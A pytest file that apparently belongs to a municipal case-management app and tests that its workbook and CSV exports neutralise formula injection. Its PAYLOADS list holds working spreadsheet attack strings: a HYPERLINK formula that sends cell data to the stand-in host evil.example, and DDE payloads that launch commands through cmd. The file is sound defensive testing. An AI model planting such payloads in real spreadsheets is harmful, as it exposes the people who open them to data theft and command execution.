"""Issue 16 #5: formula injection in the spreadsheets the project writes.

A citizen's description ``=HYPERLINK(...)`` became a live formula in the 四单 workbook and the case export.
Every writer now passes text through :func:`models.spreadsheet_cells.safe_cell` (OWASP: a leading ``'``
before ``=``, ``+``, ``-``, ``@``, tab, CR): no cell is a formula and the text reads as typed.
"""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models.clock import utcnow

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_inert(cells, payloads=PAYLOADS):
    formulas = [c.coordinate + "=" + str(c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas[:5]}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for p in payloads:
        hits = [t for t in texts if p in t or p.replace("\r", "\n") in t]  # XML may read a CR back as LF
        assert hits, f"payload {p!r} missing from the workbook"
        assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for t in hits), hits


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("路口垃圾", "路口垃圾"), ("a=1", "a=1"), ("", ""), (-5, -5), (None, None), (2.5, 2.5),
])
def test_safe_cell(value, expected):
    from models.spreadsheet_cells import safe_cell, unescape_cell

    assert safe_cell(value) == expected
    if isinstance(value, str):
        assert unescape_cell(safe_cell(value)) == value


@pytest.fixture
def payload_cases(sqlite_ctx):
    from models.registry import MonitoringPoint, ProblemType
    from models.workflow import open_case
    from tests.factories import make_registry

    with sqlite_ctx.sessions.begin() as s:
        make_registry(s)
        ptype = s.scalars(select(ProblemType)).first()
        point = s.scalars(select(MonitoringPoint)).first()
        ids = [open_case(s, source="citizen", problem_type=ptype, found_at=utcnow(), actor="x",
                         actor_role="supervisor", point=point, description=p).id for p in PAYLOADS]
    return sqlite_ctx, ids


def test_four_documents_workbook_has_no_formula(payload_cases):
    from models.cases import Case
    from models.documents import render_document

    ctx, ids = payload_cases
    cells = []
    with ctx.sessions() as s:
        for case_id in ids:
            doc = render_document(s, s.get(Case, case_id), "problem_list", "xlsx")
            cells += _cells(doc.content)
    _assert_inert(cells)


def test_case_export_has_no_formula(payload_cases, tmp_path):
    from dashboard.case_export import write_xlsx
    from models.case_queries import CaseFilter

    ctx, _ = payload_cases
    path = tmp_path / "cases.xlsx"
    assert write_xlsx(ctx, CaseFilter(), [], None, path) == len(PAYLOADS)
    _assert_inert(_cells(path.read_bytes()))


def test_briefing_workbook_has_no_formula(sqlite_ctx):
    from dashboard.report_workbook import briefing_workbook
    from models.briefing import build_briefing
    from models.registry import ResponsibleUnit
    from tests.models.report_data import NOW, make_report_data

    with sqlite_ctx.sessions.begin() as s:
        make_report_data(s)
        unit = s.scalar(select(ResponsibleUnit).where(ResponsibleUnit.name == "龙文区人民政府"))
        unit.name = PAYLOADS[0]
        b = build_briefing(s, "month", date(2026, 3, 15), NOW)
    _assert_inert(_cells(briefing_workbook(b)), PAYLOADS[:1])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_registry_export_is_formula_safe_and_round_trips(sqlite_ctx, tmp_path, fmt):
    from models.registry import ResponsibleUnit
    from models.registry_io.exporter import export_registry
    from models.registry_io.sources import read_directory
    from tests.factories import make_registry

    with sqlite_ctx.sessions.begin() as s:
        make_registry(s)
        units = s.scalars(select(ResponsibleUnit).order_by(ResponsibleUnit.id)).all()
        for unit, p in zip(units, PAYLOADS[:4]):
            unit.name = p
    export_registry(sqlite_ctx.sessions, tmp_path / "out", fmt=fmt)
    if fmt == "csv":
        rows = list(csv.reader((tmp_path / "out" / "units.csv").open(encoding="utf-8")))
        names = [r[rows[0].index("name")] for r in rows[1:]]
        assert all(not n.startswith(("=", "+", "-", "@")) for n in names), names
    else:
        _assert_inert(_cells((tmp_path / "out" / "registry.xlsx").read_bytes()), PAYLOADS[:4])
    back = read_directory(tmp_path / "out")["units"]
    col = back.header.index("name")
    assert {rec[col] for _, rec in back.rows} >= set(PAYLOADS[:4])
